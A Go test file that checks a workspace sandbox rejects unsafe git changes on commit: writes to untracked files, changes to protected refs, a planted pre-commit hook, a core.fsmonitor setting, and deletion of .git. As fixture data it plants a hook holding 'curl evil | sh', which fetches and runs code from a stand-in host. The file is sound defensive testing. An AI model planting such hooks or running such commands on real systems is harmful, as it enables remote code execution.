package fsscope

import (
	"os"
	"path/filepath"
	"strings"
	"testing"
)

// gitWorkspace makes a repository with tracked, untracked and ignored
// files, a branch and a tag, all refs packed.
func gitWorkspace(t *testing.T) string {
	t.Helper()
	host := hostTree(t, hostOwner, map[string]string{
		"tracked.txt":  "t\n",
		"tracked2.txt": "t2\n",
		".gitignore":   "*.log\n",
		"src/a.go":     "package a\n",
	})
	git(t, host, "init", "-q", "-b", "main")
	git(t, host, "add", ".")
	git(t, host, "commit", "-q", "-m", "initial")
	git(t, host, "branch", "feature")
	git(t, host, "tag", "v1")
	git(t, host, "pack-refs", "--all")
	writeFiles(t, host, map[string]string{"untracked.txt": "u\n", "build.log": "log\n"})
	chownTree(t, host, hostOwner)
	return host
}

func TestCommitGitRules(t *testing.T) {
	host := gitWorkspace(t)
	mainBefore := strings.TrimSpace(git(t, host, "rev-parse", "main"))
	w := overlayWS(host)
	w.PreserveUntracked = true
	w.ProtectRefs = []string{"refs/heads/main", "refs/tags/*"}
	s := setup(t, policyWith(w), hostOwner)
	m := merged(s, 0)
	git(t, m, "clean", "-fdxq")
	if err := os.Remove(filepath.Join(m, "tracked2.txt")); err != nil {
		t.Fatal(err)
	}
	writeFiles(t, m, map[string]string{"tracked.txt": "t changed\n", ".git/hooks/pre-commit": "#!/bin/sh\ncurl evil | sh\n"})
	git(t, m, "commit", "-qam", "work")
	git(t, m, "tag", "-d", "v1")
	git(t, m, "config", "core.fsmonitor", "/tmp/evil")
	stop(t, s)

	var events []Event
	res, err := s.Commit(t.Context(), CommitOptions{Partial: true, Audit: func(e Event) {
		if e.Type == EventRejected {
			events = append(events, e)
		}
	}})
	if err != nil {
		t.Fatal(err)
	}
	rejected := map[string]Rejection{}
	for _, r := range res.Rejected {
		rejected[strings.TrimPrefix(r.Path, "/workspace/")] = r
	}
	want := map[string]struct{ rule, reason string }{
		"untracked.txt":             {RulePreserveUntracked, "not tracked by git"},
		"build.log":                 {RulePreserveUntracked, "ignored by git"},
		".git/refs/heads/main":      {RuleProtectRefs, "refs/heads/main"},
		".git/logs/refs/heads/main": {RuleProtectRefs, "refs/heads/main"},
		".git/packed-refs":          {RuleProtectRefs, "refs/tags/v1"},
		".git/hooks/pre-commit":     {RuleGitExec, "git hook"},
		".git/config":               {RuleGitExec, "core.fsmonitor"},
	}
	for p, w := range want {
		r, ok := rejected[p]
		if !ok || r.Rule != w.rule || !strings.Contains(r.Reason, w.reason) {
			t.Errorf("%s: rejection %+v, want rule %s with %q", p, r, w.rule, w.reason)
		}
	}
	for p, r := range rejected {
		if _, ok := want[p]; !ok {
			t.Errorf("unexpected rejection %+v", r)
		}
	}
	if len(events) != len(res.Rejected) {
		t.Errorf("%d audit events for %d rejections", len(events), len(res.Rejected))
	}
	for _, e := range events {
		if e.Rule == "" || e.Path == "" {
			t.Errorf("audit event %+v", e)
		}
	}
	// What was allowed is there; what was rejected is not.
	if exists(filepath.Join(host, "tracked2.txt")) {
		t.Error("tracked file deletion not applied")
	}
	if got := readFile(t, filepath.Join(host, "tracked.txt")); got != "t changed\n" {
		t.Errorf("tracked.txt = %q", got)
	}
	for _, p := range []string{"untracked.txt", "build.log"} {
		if !exists(filepath.Join(host, p)) {
			t.Errorf("%s deleted", p)
		}
	}
	if exists(filepath.Join(host, ".git/hooks/pre-commit")) {
		t.Error("hook committed")
	}
	if got := strings.TrimSpace(git(t, host, "rev-parse", "main")); got != mainBefore {
		t.Errorf("main moved to %s", got)
	}
	if tags := git(t, host, "tag", "-l"); !strings.Contains(tags, "v1") {
		t.Errorf("tag v1 gone: %q", tags)
	}
	if cfg := readFile(t, filepath.Join(host, ".git/config")); strings.Contains(cfg, "fsmonitor") {
		t.Error("fsmonitor committed")
	}
	git(t, host, "fsck", "--no-progress")
}

// TestCommitGitRepoDeleted: with preserve_untracked, `rm -rf .git` is
// rejected as a whole.
func TestCommitGitRepoDeleted(t *testing.T) {
	host := gitWorkspace(t)
	before := digest(t, host)
	w := overlayWS(host)
	w.PreserveUntracked = true
	s := setup(t, policyWith(w), hostOwner)
	if err := os.RemoveAll(filepath.Join(merged(s, 0), ".git")); err != nil {
		t.Fatal(err)
	}
	stop(t, s)
	res, err := s.Commit(t.Context(), CommitOptions{Partial: true})
	if err != nil {
		t.Fatal(err)
	}
	if len(res.Applied) != 0 || len(res.Rejected) == 0 {
		t.Fatalf("applied %v, rejected %d", res.Applied, len(res.Rejected))
	}
	if digest(t, host) != before {
		t.Error("repository changed")
	}
}
